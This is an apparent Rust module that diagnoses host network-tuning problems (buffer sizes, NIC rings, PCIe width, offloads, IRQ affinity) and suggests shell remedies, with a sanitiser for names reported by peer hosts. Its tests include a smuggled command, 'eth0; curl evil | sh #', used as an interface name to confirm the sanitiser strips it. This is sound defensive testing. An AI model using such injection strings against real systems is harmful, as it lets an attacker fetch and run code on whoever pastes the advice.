//! What in a host's set-up is likely to cost throughput, and what to do about it.
//!
//! These caveats are advice, not measurements: a test tells whether they matter.

use crate::caveats;
use longhaul_result::{Caveat, CaveatCode};
use longhaul_units::{BitRate, Bytes, Nanos};

use super::{HostSnapshot, Interface, QueueDirection, SysctlValue};

/// The round-trip time to judge buffers by where none is known: half around the world in fibre.
pub const LONG_PATH_RTT: Nanos = Nanos::from_millis(100);

/// How long a UDP receiver may wait for its CPU without losing packets: one scheduling tick at 100 Hz.
const RECEIVER_PAUSE: Nanos = Nanos::from_millis(10);

/// Most interfaces of another host that get advice, and most letters of a name that it sent.
const PEERS_INTERFACES_MOST: usize = 64;
const PEERS_LETTERS_MOST: usize = 64;

impl HostSnapshot {
    /// The snapshot that another host sent, to be judged. People paste advice into a shell, so names that could form a command are replaced.
    #[must_use]
    pub fn of_peer(mut self) -> Self {
        self.interfaces.truncate(PEERS_INTERFACES_MOST);
        for interface in &mut self.interfaces {
            tame(&mut interface.name, "INTERFACE");
            interface.pci_address.iter_mut().for_each(|address| tame(address, "ADDRESS"));
            if let Some(pcie) = &mut interface.pcie {
                pcie.limited_by.iter_mut().for_each(|address| tame(address, "ADDRESS"));
                pcie.links.iter_mut().for_each(|link| tame(&mut link.pci_address, "ADDRESS"));
            }
        }
        self.cpu.governors.iter_mut().for_each(|governor| tame(governor, "unknown"));
        self.kernel.clocksource.iter_mut().for_each(|clock| tame(clock, "unknown"));
        self
    }

    /// What is likely to cost throughput on paths of `rtt` ([`LONG_PATH_RTT`] where it is not known).
    pub fn caveats(&self, rtt: Nanos) -> Vec<Caveat> {
        let mut caveats = self.caveats_beside_buffers();
        // The most that a NIC can carry.
        if let Some(rate) = self.nics().filter_map(|nic| nic.link_speed_bps).max().map(BitRate) {
            self.judge_buffers(rate, rtt, &mut caveats);
        }
        caveats
    }

    /// The same without buffers: for who measures what those cost.
    pub fn caveats_beside_buffers(&self) -> Vec<Caveat> {
        let mut caveats = Vec::new();
        for nic in self.nics() {
            judge_nic(nic, self.cpu.numa_nodes.len(), &mut caveats);
        }
        self.judge_machine(&mut caveats);
        caveats
    }

    fn nics(&self) -> impl Iterator<Item = &Interface> {
        self.interfaces.iter().filter(|interface| interface.hardware && interface.up)
    }

    fn judge_buffers(&self, rate: BitRate, rtt: Nanos, caveats: &mut Vec<Caveat>) {
        let in_flight = rate.bytes_in(rtt);
        let maximum = |key: &str| self.sysctls.get(key).and_then(SysctlValue::maximum);
        // A buffer of n bytes holds about n/2 of payload.
        for key in ["net.ipv4.tcp_rmem", "net.ipv4.tcp_wmem"] {
            let needed = in_flight.saturating_mul(2);
            if let Some(bytes) =
                maximum(key).and_then(|bytes| u64::try_from(bytes).ok()).filter(|bytes| *bytes < needed)
            {
                caveats.push(Caveat::new(
                    caveats::TCP_BUFFER_SMALL,
                    format!(
                        "{key} allows {}, but {} are in flight at {rate} and a round trip of {rtt}",
                        Bytes(bytes),
                        Bytes(in_flight)
                    ),
                    format!("sysctl -w {key}=\"4096 131072 {needed}\", and the path's own rate if it is lower"),
                ));
            }
        }
        let needed = rate.bytes_in(RECEIVER_PAUSE).saturating_mul(2);
        if let Some(bytes) =
            maximum("net.core.rmem_max").and_then(|bytes| u64::try_from(bytes).ok()).filter(|bytes| *bytes < needed)
        {
            caveats.push(Caveat::new(
                caveats::UDP_BUFFER_SMALL,
                format!(
                    "net.core.rmem_max allows {} to a program without root: a receiver that waits {RECEIVER_PAUSE} for its CPU \
                     loses packets at {rate}",
                    Bytes(bytes)
                ),
                format!("sysctl -w net.core.rmem_max={needed}, or run as root"),
            ));
        }
    }

    fn judge_machine(&self, caveats: &mut Vec<Caveat>) {
        if let Some(slow) = self.cpu.governors.iter().find(|governor| *governor != "performance") {
            caveats.push(Caveat::new(
                caveats::CPU_GOVERNOR,
                format!("the CPU governor is {slow}: cores may run below their full speed when packets come in bursts"),
                "cpupower frequency-set -g performance",
            ));
        }
        const FAST: [&str; 6] =
            ["tsc", "kvm-clock", "arch_sys_counter", "hyperv_clocksource_tsc_page", "timebase", "tod"];
        if let Some(slow) = self.kernel.clocksource.as_deref().filter(|clock| !FAST.contains(clock)) {
            caveats.push(Caveat::new(
                caveats::CLOCKSOURCE_SLOW,
                format!("the clock source is {slow}: reading it takes a microsecond or more"),
                "boot with tsc=reliable if the machine's TSC is reliable, or see in dmesg why the kernel does not use it",
            ));
        }
        if let Some(0) = self.sysctls.get("net.ipv4.tcp_window_scaling").and_then(SysctlValue::maximum) {
            caveats.push(Caveat::new(
                caveats::WINDOW_SCALING_OFF,
                "TCP window scaling is off: at most 64 KiB are in flight",
                "sysctl -w net.ipv4.tcp_window_scaling=1",
            ));
        }
    }
}

/// Puts `instead` in place of what is no plain name.
fn tame(name: &mut String, instead: &str) {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "._:@-".contains(letter);
    if name.len() > PEERS_LETTERS_MOST || name.starts_with('-') || !name.chars().all(is_plain) {
        instead.clone_into(name);
    }
}

fn judge_nic(nic: &Interface, numa_nodes: usize, caveats: &mut Vec<Caveat>) {
    let name = &nic.name;
    let mut found = |code: CaveatCode, message: String, remedy: String| {
        caveats.push(Caveat::new(code, message, remedy));
    };
    if let Some(rings) = nic.rings {
        let small = rings.receive_packets < rings.receive_max_packets;
        if small {
            found(
                caveats::RING_SMALL,
                format!(
                    "{name}'s receive ring holds {} packets of {}",
                    rings.receive_packets, rings.receive_max_packets
                ),
                format!("ethtool -G {name} rx {}", rings.receive_max_packets),
            );
        }
    }
    if let (Some(speed), Some(pcie)) = (nic.link_speed_bps, &nic.pcie) {
        if let Some(ceiling) = pcie.ceiling_bps.filter(|ceiling| *ceiling < speed) {
            let place = pcie.limited_by.as_deref().unwrap_or("its slot");
            found(
                caveats::PCIE_BELOW_LINK,
                format!(
                    "{name}'s link runs at {}, but the PCIe link at {place} carries {}",
                    BitRate(speed),
                    BitRate(ceiling)
                ),
                format!("move the NIC to a slot with more lanes; lspci -vvs {place} shows what both ends can do"),
            );
        }
        let narrowed =
            pcie.links.iter().find(|link| link.ceiling_bps < link.max_ceiling_bps && link.ceiling_bps.is_some());
        if let Some(link) = narrowed.filter(|link| link.pci_address == *nic.pci_address.as_deref().unwrap_or_default())
        {
            found(
                caveats::PCIE_NARROWED,
                format!("{name}'s PCIe link runs below what the NIC can do ({})", link.pci_address),
                "use a slot with as many lanes as the NIC, and check that the NIC is seated well".into(),
            );
        }
    }
    for (feature, code, loss) in [
        ("rx-gro", caveats::GRO_OFF, "each received packet passes the stack by itself"),
        ("tx-generic-segmentation", caveats::GSO_OFF, "each sent packet passes the stack by itself"),
    ] {
        if nic.offloads.iter().any(|offload| offload.name == feature && !offload.active) {
            found(code, format!("{feature} is off at {name}: {loss}"), format!("ethtool -K {name} {feature} on"));
        }
    }
    let receiving = nic.interrupts.iter().filter(|irq| irq.name.is_some());
    let cpus: std::collections::BTreeSet<u32> =
        receiving.clone().flat_map(|irq| irq.effective_cpus.iter().flatten().copied()).collect();
    let queues = nic.queues.iter().filter(|queue| queue.direction == QueueDirection::Receive).count();
    if let (Some(cpu), true) = (cpus.first().filter(|_| cpus.len() == 1), queues > 1) {
        found(
            caveats::INTERRUPTS_ON_ONE_CPU,
            format!("all interrupts of {name}'s {queues} receive queues go to CPU {cpu}"),
            "start irqbalance, or write each queue's CPU to /proc/irq/N/smp_affinity_list".into(),
        );
    }
    if let (Some(node), true) = (nic.numa_node, numa_nodes > 1) {
        found(
            caveats::NUMA_NODE,
            format!(
                "{name} is next to memory node {node} of {numa_nodes}: packets for programs on another node cross between them"
            ),
            format!("run sender and receiver on CPUs of node {node} (`affinity`)"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Interrupt, Offload, PcieLink, PciePath, Queue, Rings};
    use super::*;

    fn codes(host: &HostSnapshot, rtt: Nanos) -> Vec<String> {
        host.caveats(rtt).into_iter().map(|caveat| caveat.code).collect()
    }

    /// This machine, but for what is judged.
    fn good_host() -> HostSnapshot {
        let mut host = HostSnapshot::take();
        host.cpu.governors = vec!["performance".into()];
        host.kernel.clocksource = Some("tsc".into());
        let most = SysctlValue::Number(i64::from(i32::MAX));
        for key in ["net.core.rmem_max", "net.ipv4.tcp_rmem", "net.ipv4.tcp_wmem", "net.ipv4.tcp_window_scaling"] {
            host.sysctls.insert(key.into(), most.clone());
        }
        let nic = Interface {
            name: "eth9".into(),
            hardware: true,
            up: true,
            link_speed_bps: Some(40_000_000_000),
            ..Interface::default()
        };
        host.interfaces = vec![nic];
        host
    }

    #[test]
    fn a_good_host_has_no_caveats() {
        assert_eq!(codes(&good_host(), LONG_PATH_RTT), [""; 0]);
    }

    #[test]
    fn small_buffers_are_judged_by_rate_and_round_trip() {
        let mut host = good_host();
        host.sysctls.insert("net.core.rmem_max".into(), SysctlValue::Number(212_992));
        host.sysctls.insert("net.ipv4.tcp_rmem".into(), SysctlValue::Numbers(vec![4096, 131_072, 6_291_456]));
        assert_eq!(codes(&host, LONG_PATH_RTT), ["tcp_buffer_small", "udp_buffer_small"]);
        // 40 Gb/s × 0.1 ms = 500 kB.
        assert_eq!(codes(&host, Nanos::from_micros(100)), ["udp_buffer_small"]);
        host.interfaces[0].link_speed_bps = None;
        assert_eq!(codes(&host, LONG_PATH_RTT), [""; 0]);
    }

    #[test]
    fn a_nic_in_a_narrow_slot_with_a_small_ring() {
        let mut host = good_host();
        let link = PcieLink {
            pci_address: "0000:3b:00.0".into(),
            current_transfers_per_s: Some(8_000_000_000),
            current_lanes: Some(4),
            max_transfers_per_s: Some(8_000_000_000),
            max_lanes: Some(8),
            ceiling_bps: Some(31_507_692_307),
            max_ceiling_bps: Some(63_015_384_615),
        };
        let nic = &mut host.interfaces[0];
        nic.pci_address = Some(link.pci_address.clone());
        nic.pcie = Some(PciePath {
            ceiling_bps: link.ceiling_bps,
            limited_by: Some(link.pci_address.clone()),
            links: vec![link],
            formula: String::new(),
        });
        nic.rings = Some(Rings {
            receive_packets: 512,
            receive_max_packets: 4096,
            transmit_packets: 512,
            transmit_max_packets: 512,
        });
        nic.offloads = vec![Offload { name: "rx-gro".into(), active: false, changeable: true }];
        let queue = |index| Queue { direction: QueueDirection::Receive, index, cpus: None, rfs_flows: None };
        nic.queues = vec![queue(0), queue(1)];
        let irq = |irq| Interrupt { irq, name: Some("q".into()), allowed_cpus: None, effective_cpus: Some(vec![3]) };
        nic.interrupts = vec![irq(40), irq(41)];
        let expected = ["ring_small", "pcie_below_link", "pcie_narrowed", "gro_off", "interrupts_on_one_cpu"];
        assert_eq!(codes(&host, LONG_PATH_RTT), expected);
        host.interfaces[0].up = false;
        assert_eq!(codes(&host, LONG_PATH_RTT), [""; 0]);
    }

    /// Advice is pasted into a shell.
    #[test]
    fn advice_about_another_host_is_no_command_of_its() {
        let mut host = good_host();
        let evil = "eth0; curl evil | sh #";
        host.interfaces[0].offloads = vec![Offload { name: "rx-gro".into(), active: false, changeable: true }];
        host.interfaces = vec![host.interfaces[0].clone(); 1_000];
        host.interfaces[0].name = evil.into();
        host.interfaces[1].name = "x".repeat(1 << 20);
        host.cpu.governors = vec![evil.into()];
        host.kernel.clocksource = Some(evil.into());
        let advice = host.of_peer().caveats_beside_buffers();
        assert!((3..=6 * PEERS_INTERFACES_MOST + 3).contains(&advice.len()), "{}", advice.len());
        for caveat in advice {
            let text = format!("{} {}", caveat.message, caveat.remedy);
            assert!(!text.contains("curl") && text.len() < 400, "{text}");
        }
    }

    #[test]
    fn a_slow_clock_and_a_saving_governor() {
        let mut host = good_host();
        host.cpu.governors = vec!["performance".into(), "powersave".into()];
        host.kernel.clocksource = Some("hpet".into());
        assert_eq!(codes(&host, LONG_PATH_RTT), ["cpu_governor", "clocksource_slow"]);
    }
}
